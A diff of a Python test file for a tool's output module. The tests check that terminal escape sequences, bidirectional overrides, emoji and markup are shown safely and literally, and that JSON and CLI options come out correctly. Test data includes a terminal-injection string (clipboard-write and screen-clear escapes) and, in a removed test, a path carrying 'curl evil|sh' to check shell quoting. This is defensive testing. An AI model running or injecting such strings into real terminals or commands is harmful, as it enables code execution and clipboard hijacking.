@@ -84,15 +84,37 @@ def test_json_is_json_where_a_number_is_not_finite(capsys: pytest.CaptureFixture
     assert json.loads(capsys.readouterr().out, parse_constant=pytest.fail) == {"kl": None, "more": [[1.5, None]]}
 
 
-def test_what_a_terminal_would_obey_is_shown_as_a_sign(capsys: pytest.CaptureFixture[str]) -> None:
+def test_what_a_terminal_would_obey_is_shown_by_its_escape(capsys: pytest.CaptureFixture[str]) -> None:
     evil = "\x1b]52;c;eA==\x07\x1b[2J\x9b1A\r\u202ecat"
     output.show(evil, {evil: evil}, [evil])
     output.Bars().say(evil)
     show_precisions(f"[/x] {evil}", [Row("fp32", evil, 1, 1, 1.0, 1.0, 0, 0.0, 1.0, True)])
     said = "".join(capsys.readouterr())
-    assert said.count("\N{REPLACEMENT CHARACTER}") > 20 and "[/x]" in said
+    assert said.count(r"\x1b]52;c;eA==\x07\x1b[2J\x9b1A\x0d\u202ecat") == 7 and "[/x]" in said
     assert not set(said) & set("\x1b\x07\x9b\r\u202e")
 
 
-def test_a_command_to_copy_quotes_its_path() -> None:
-    assert output.quoted(Path("bundles/x;curl evil|sh")) == "'bundles/x;curl evil|sh'"
+def test_joiners_marks_and_codes_of_emoji_stay_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
+    names = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f52c \u200eabc\u200f :rose: [bold]x"
+    output.show(names, {names: names}, [names])
+    output.Bars().say(names)
+    assert "".join(capsys.readouterr()).count(names) == 5
+
+
+def test_a_bar_shows_a_name_as_it_is(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    for key, value in {"FORCE_COLOR": "1", "TERM": "xterm", "COLUMNS": "120"}.items():
+        monkeypatch.setenv(key, value)
+    with output.Bars().bar("ask [bold]x :rose:", 2):
+        pass
+    assert "ask [bold]x :rose:" in capsys.readouterr().err
+
+
+def test_json_is_unicode_whatever_a_file_is_called(capsys: pytest.CaptureFixture[str]) -> None:
+    output.show_json({"caf\udce9": Path("caf\udce9"), "more": ["\ud800", 7, True, None, "caf\xe9"]})
+    said = json.loads(capsys.readouterr().out)
+    assert said == {"caf\\xe9": "caf\\xe9", "more": ["\\ud800", 7, True, None, "caf\xe9"]}
+
+
+def test_the_options_that_were_given_are_given_again() -> None:
+    told = output.given(precision=None, threads=0, trust_engines=True, arm=["a: b=1", "c: d=2"], runs=Path("my runs"))
+    assert told == ["--trust-engines", "--arm", "a: b=1", "--arm", "c: d=2", "--runs", "my runs"]
